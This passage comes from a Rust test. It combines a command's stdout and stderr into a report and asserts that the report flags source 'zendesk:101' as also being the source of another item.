        String::from_utf8_lossy(&out.stdout).into_owned() + &String::from_utf8_lossy(&out.stderr);
    assert!(
        report.contains("source 'zendesk:101' is also the source of"),
        "{report}"
    );
}
